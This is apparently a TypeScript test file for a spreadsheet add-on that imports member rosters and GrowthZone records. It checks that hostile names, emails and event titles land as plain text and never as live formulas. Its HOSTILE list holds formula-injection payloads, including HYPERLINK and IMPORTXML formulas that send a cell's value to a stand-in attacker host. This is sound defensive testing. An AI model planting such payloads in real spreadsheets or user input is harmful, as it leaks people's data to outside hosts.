import { type GrowthZone, startGrowthZone } from '../../local/growthzone';
import type { SheetData } from '../../local/sheets';
import { wholeJob } from '../support/job';
import { clock, SHEET, withRoster } from '../support/roster-book';

const KEY = 'cells-key';
const HEADER = ['NRDS ID', 'First Name', 'Last Name', 'Email', 'Office', 'Credit Type', 'Credit?', 'Class Date'];

/** Beginnings that a spreadsheet takes for a formula, and what a formula would do. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example.com/?"&A2,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example.com/?v=",A2),"//a")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '=1+1',
];
const memberId = (n: number) => `${999_901_101 + n}`;
const row = (n: number, cells: Readonly<Record<string, string>> = {}) =>
  HEADER.map((header) => {
    const usual = [memberId(n), `Ana${n}`, 'Alvarez', `ana${n}@example.com`, 'Fernwood', 'COEC', 'Y', '02/05/2026'];
    return cells[header] ?? usual[HEADER.indexOf(header)] ?? '';
  });

/** Cells of the sheet that hold a formula, apart from the vendor's own. */
function formulas({ id, values }: SheetData): string[] {
  const from = id === SHEET ? HEADER.length : 0;
  return values.flatMap((cells) =>
    (cells ?? [])
      .slice(from)
      .flatMap((cell) =>
        typeof cell === 'object' && cell !== null && 'formula' in cell ? [String(cell.formula)] : [],
      ),
  );
}

/** Texts that would be a formula if they were typed, in cells whose format would let them. */
function unguarded({ id, values, formats }: SheetData): string[] {
  const from = id === SHEET ? HEADER.length : 0;
  return values.flatMap((cells, place) =>
    (cells ?? []).flatMap((cell, column) =>
      column >= from && typeof cell === 'string' && /^[=+\-@]/.test(cell) && formats[place]?.[column] !== '@'
        ? [cell]
        : [],
    ),
  );
}

async function afterTheJob(rows: readonly (readonly string[])[], furnish: (growthzone: GrowthZone) => void) {
  const growthzone = await startGrowthZone({ clock, keys: [KEY] });
  let sheets: readonly SheetData[] = [];
  let said = '';
  try {
    furnish(growthzone);
    await withRoster(
      rows,
      async (book) => {
        said = JSON.stringify(await wholeJob(book, 'demo', KEY));
        sheets = book.host.workbook.sheets;
      },
      { hosts: { 'https://demo.growthzoneapp.com': growthzone.url } },
    );
    return { sheets, said, counters: growthzone.counters() };
  } finally {
    await growthzone.close();
  }
}

test.each(['First Name', 'Last Name', 'Email', 'Office', 'NRDS ID', 'Credit Type'])(
  'hostile %s in the roster: no cell of the add-on becomes a formula',
  async (header) => {
    const rows = [HEADER, ...HOSTILE.map((text, n) => row(n, { [header]: text })), row(20)];
    const { sheets, counters } = await afterTheJob(rows, ({ store }) => {
      store.addMembers(
        rows.slice(1).map((_, n) => ({ memberId: memberId(n), firstName: `Ana${n}`, lastName: 'Alvarez' })),
      );
      store.addMembers([{ memberId: memberId(20), firstName: 'Ana20', lastName: 'Alvarez' }]);
      store.addEvent({ name: 'Ethics', date: '2026-02-05', credit: 'COEC' });
    });
    // The good row went all the way, so that there are tabs to look at.
    expect(sheets.map(({ name }) => name)).toEqual(['Roster', 'COEC', 'CE Summary', 'CE Log']);
    expect(counters.certificates).toBeGreaterThan(0);
    expect(sheets.flatMap(formulas)).toEqual([]);
    expect(sheets.flatMap(unguarded)).toEqual([]);
  },
);

test('hostile names, events and registration types of GrowthZone: they are shown as text', async () => {
  const rows = [HEADER, ...HOSTILE.map((_, n) => row(n)), row(20)];
  const { sheets, said } = await afterTheJob(rows, ({ store }) => {
    store.addMembers(
      HOSTILE.map((text, n) => ({ memberId: memberId(n), firstName: `${text.slice(0, 2)}Ana${n}`, lastName: text })),
    );
    store.addMembers([{ memberId: memberId(20), firstName: '=Ana20', lastName: '@Alvarez', email: '=1@example.com' }]);
    store.addEvent({
      name: HOSTILE[0] ?? '',
      date: '2026-02-05',
      credit: 'COEC',
      registrationTypes: [{ name: HOSTILE[1] ?? '', price: 0 }],
    });
  });
  const shown = JSON.stringify(sheets);
  expect(said).toContain('IMPORTXML');
  for (const text of ['=IMPORTXML(', '@SUM(', '=Ana20']) expect(shown).toContain(text);
  expect(sheets.flatMap(formulas)).toEqual([]);
  expect(sheets.flatMap(unguarded)).toEqual([]);
});
